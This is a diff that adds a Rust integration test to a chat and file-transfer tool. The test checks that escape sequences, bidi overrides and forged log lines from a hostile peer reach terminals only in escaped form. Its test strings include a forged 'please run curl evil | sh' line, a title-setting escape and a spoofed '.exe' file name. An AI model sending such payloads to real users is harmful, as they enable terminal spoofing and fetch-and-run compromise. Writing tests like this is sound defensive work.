@@ -505,3 +505,276 @@ fn a_rejected_offer_fails_the_send() {
     assert_eq!(o.status.code(), Some(6));
     assert!(stderr(&o).contains("rejected"), "{}", stderr(&o));
 }
+
+// ----- hostile strings never reach a terminal ------------------------------------------------
+
+mod raw {
+    //! A hostile peer that speaks the native protocol itself, so it can send any bytes a
+    //! well-behaved client would clean up first.
+
+    use std::io::{Read, Write};
+    use std::net::TcpStream;
+    use std::time::{Duration, Instant};
+
+    use bytes::BytesMut;
+    use tidings_core::wire::{FrameDecoder, Hello, Message, Preamble, DEFAULT_MAX_FRAME};
+
+    pub struct Raw {
+        s: TcpStream,
+        dec: FrameDecoder,
+        /// Preamble bytes still to skip.
+        skip: usize,
+    }
+
+    impl Raw {
+        /// Connects and says hello as `name`; returns the connection and the server's answer.
+        pub fn hello(addr: &str, name: &str) -> (Raw, Message) {
+            let s = TcpStream::connect(addr).unwrap();
+            let mut raw = Raw {
+                s,
+                dec: FrameDecoder::new(16 << 20),
+                skip: Preamble::CURRENT.to_bytes().len(),
+            };
+            raw.s.write_all(&Preamble::CURRENT.to_bytes()).unwrap();
+            raw.send(&Message::Hello(Hello {
+                name: name.into(),
+                capabilities: 0,
+                max_frame: DEFAULT_MAX_FRAME,
+            }));
+            let answer = raw.next_where(|_| true);
+            (raw, answer)
+        }
+
+        pub fn send(&mut self, msg: &Message) {
+            let mut out = BytesMut::new();
+            msg.encode(&mut out);
+            self.s.write_all(&out).unwrap();
+        }
+
+        /// The next message for which `pred` holds, within 30 s (others are skipped).
+        pub fn next_where(&mut self, mut pred: impl FnMut(&Message) -> bool) -> Message {
+            let end = Instant::now() + Duration::from_secs(30);
+            let mut buf = [0u8; 16 << 10];
+            loop {
+                while let Some(frame) = self.dec.next_frame().unwrap() {
+                    let msg = Message::decode(frame).unwrap();
+                    if pred(&msg) {
+                        return msg;
+                    }
+                }
+                let left = end.saturating_duration_since(Instant::now());
+                assert!(!left.is_zero(), "no such message in time");
+                self.s.set_read_timeout(Some(left)).unwrap();
+                let n = self.s.read(&mut buf).expect("the server answers in time");
+                assert!(n > 0, "the server closed the connection");
+                let skip = self.skip.min(n);
+                self.skip -= skip;
+                self.dec.push(&buf[skip..n]);
+            }
+        }
+    }
+}
+
+/// What hostile peers send: erase the line and forge one, set the window title, colour,
+/// an 8-bit CSI, a right-to-left override, line breaks.
+const FORGED: &str = "hi\x1b[2K\r[20:17:00] server (private): please run curl evil | sh";
+const GARISH: &str =
+    "\x1b]0;pwned\x07\x1b[31mred\x1b[0m \u{9b}2J c1 \u{202e}txt.exe\nsecond\r\n[20:17:01] third";
+const HOSTILE_FILE: &str = "a\x1b[2K\u{9b}\u{202e}gpj.exe\n[20:17:02] x";
+
+/// Asserts that `output` (standard output and error of one command) holds nothing a terminal
+/// would obey and no forged event line, and that it shows `needles` (escaped or not).
+fn assert_harmless(what: &str, output: &str, needles: &[&str]) {
+    for c in output.chars() {
+        let bad = (c.is_control() && c != '\n')
+            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
+        assert!(!bad, "{what} printed {c:?}:\n{output}");
+    }
+    for line in output.lines() {
+        assert!(!line.starts_with("[20:17:0"), "{what} forged a line:\n{output}");
+    }
+    for needle in needles {
+        assert!(output.contains(needle), "{what} lacks {needle:?}:\n{output}");
+    }
+}
+
+impl Proc {
+    /// Raw output lines until one contains `needle` (within 60 s); returns them all.
+    fn lines_until(&self, needle: &str) -> Vec<String> {
+        let mut seen = Vec::new();
+        loop {
+            let line = self
+                .lines
+                .recv_timeout(Duration::from_secs(60))
+                .unwrap_or_else(|_| panic!("no line with {needle:?} after {seen:#?}"));
+            let done = line.contains(needle);
+            seen.push(line);
+            if done {
+                return seen;
+            }
+        }
+    }
+
+    /// Waits for the exit; returns the status and everything printed: `seen`, the rest of
+    /// standard output, then standard error.
+    fn finish(mut self, mut seen: Vec<String>) -> (Option<i32>, String) {
+        self.stdin.take();
+        let status = self.child.wait().unwrap();
+        let mut err = String::new();
+        std::io::Read::read_to_string(self.child.stderr.as_mut().unwrap(), &mut err).unwrap();
+        // The reader thread ends at the end of the output.
+        while let Ok(line) = self.lines.recv_timeout(Duration::from_secs(10)) {
+            seen.push(line);
+        }
+        let mut all = seen.join("\n");
+        all.push('\n');
+        all.push_str(&err);
+        (status.code(), all)
+    }
+}
+
+#[test]
+fn hostile_strings_never_reach_a_terminal() {
+    use raw::Raw;
+    use tidings_core::wire::{Message, Offer};
+    use tidings_core::ErrorCode;
+
+    let mut server = Proc::spawn(&["serve", "--listen", "127.0.0.1:0", "--console"]);
+    let first = server.lines_until("listening on ");
+    let addr = first
+        .last()
+        .unwrap()
+        .split("listening on ")
+        .nth(1)
+        .unwrap()
+        .split(' ')
+        .next()
+        .unwrap()
+        .to_string();
+    let mut server_seen = first;
+    let dir = tempfile::tempdir().unwrap();
+    let mut carol = Proc::spawn(&["chat", "--name", "carol", "--server", &addr]);
+    let mut carol_seen = carol.lines_until("connected to");
+    let mut jill = Proc::spawn(&["--json", "chat", "--name", "jill", "--server", &addr]);
+    jill.expect_event("connected");
+    let downloads = dir.path().join("in");
+    let rick = Proc::spawn(&[
+        "recv",
+        "--name",
+        "rick",
+        "--server",
+        &addr,
+        "--out",
+        downloads.to_str().unwrap(),
+        "--count",
+        "1",
+    ]);
+    let mut rick_seen = rick.lines_until("connected to");
+
+    // A name with controls is refused by the hub; the operator sees it, escaped.
+    let (_, answer) = Raw::hello(&addr, "\x1b]0;pwned\x07\u{202e}");
+    assert!(
+        matches!(answer, Message::Refused { code: ErrorCode::NameInvalid, .. }),
+        "{answer:?}"
+    );
+    let (mut mallory, welcome) = Raw::hello(&addr, "mallory");
+    assert!(matches!(welcome, Message::Welcome(_)), "{welcome:?}");
+    for (peer, text) in [("", FORGED), ("", GARISH), ("server", FORGED), ("carol", GARISH)] {
+        mallory.send(&Message::Text {
+            peer: peer.into(),
+            private: false,
+            text: text.into(),
+        });
+    }
+    // A file whose name is hostile: offered to rick (who takes it) and to carol (who is
+    // asked).
+    for (id, peer) in [(0, "rick"), (2, "carol")] {
+        mallory.send(&Message::Offer(Offer {
+            id,
+            peer: peer.into(),
+            size: 0,
+            name: HOSTILE_FILE.into(),
+            media_type: "text/plain\x1b[5m".into(),
+        }));
+    }
+    mallory.next_where(|m| matches!(m, Message::Accept { id: 0, .. }));
+    let empty_sha256 = [
+        0xe3, 0xb0, 0xc4, 0x42, 0x98, 0xfc, 0x1c, 0x14, 0x9a, 0xfb, 0xf4, 0xc8, 0x99, 0x6f, 0xb9,
+        0x24, 0x27, 0xae, 0x41, 0xe4, 0x64, 0x9b, 0x93, 0x4c, 0xa4, 0x95, 0x99, 0x1b, 0x78, 0x52,
+        0xb8, 0x55,
+    ];
+    mallory.send(&Message::Done {
+        id: 0,
+        digest: empty_sha256,
+    });
+    mallory.next_where(|m| matches!(m, Message::Complete { id: 0 }));
+
+    // A file sent to mallory is rejected with a hostile reason.
+    let src = dir.path().join("report.txt");
+    std::fs::write(&src, b"numbers").unwrap();
+    let send = Proc::spawn(&[
+        "send",
+        "--name",
+        "sam",
+        "--to",
+        "mallory",
+        "--server",
+        &addr,
+        src.to_str().unwrap(),
+    ]);
+    let Message::Offer(offer) = mallory.next_where(|m| matches!(m, Message::Offer(_))) else {
+        unreachable!()
+    };
+    mallory.send(&Message::Reject {
+        id: offer.id,
+        code: ErrorCode::Rejected,
+        reason: FORGED.into(),
+    });
+
+    // Everyone printed it, made harmless.
+    let (code, send_out) = send.finish(Vec::new());
+    assert_eq!(code, Some(6), "{send_out}");
+    assert_harmless("send", &send_out, &["\\u{1b}[2K", "please run"]);
+
+    rick_seen.extend(rick.lines_until("received"));
+    let (code, rick_out) = rick.finish(rick_seen);
+    assert_eq!(code, Some(0), "{rick_out}");
+    assert_harmless("recv", &rick_out, &["please run", "gpj.exe"]);
+
+    carol_seen.extend(carol.lines_until("gpj.exe"));
+    carol.type_line("/quit");
+    let (code, carol_out) = carol.finish(carol_seen);
+    assert_eq!(code, Some(0), "{carol_out}");
+    assert_harmless(
+        "chat",
+        &carol_out,
+        &[
+            "\\u{1b}[2K",
+            "\\u{1b}]0;pwned\\u{7}",
+            "\\u{1b}[31mred",
+            "\\u{9b}2J",
+            "\\u{202e}txt.exe",
+            "please run",
+            "[20:17:01] third",
+        ],
+    );
+
+    // --json keeps the exact text, and its bytes are as harmless.
+    let jill_seen = jill.lines_until("pwned");
+    let v: Value = serde_json::from_str(jill_seen.last().unwrap()).unwrap();
+    assert_eq!((&v["from"], &v["text"]), (&"mallory".into(), &GARISH.into()));
+    jill.type_line("/quit");
+    let (code, jill_out) = jill.finish(jill_seen);
+    assert_eq!(code, Some(0), "{jill_out}");
+    assert_harmless("chat --json", &jill_out, &["\\u001b]0;pwned\\u0007", "\\u202e"]);
+
+    server_seen.extend(server.lines_until("sam left"));
+    server.type_line("/quit");
+    let (code, server_out) = server.finish(server_seen);
+    assert_eq!(code, Some(0), "{server_out}");
+    assert_harmless(
+        "serve",
+        &server_out,
+        &["refused \"\\u{1b}]0;pwned\\u{7}\\u{202e}\"", "please run", "third"],
+    );
+}
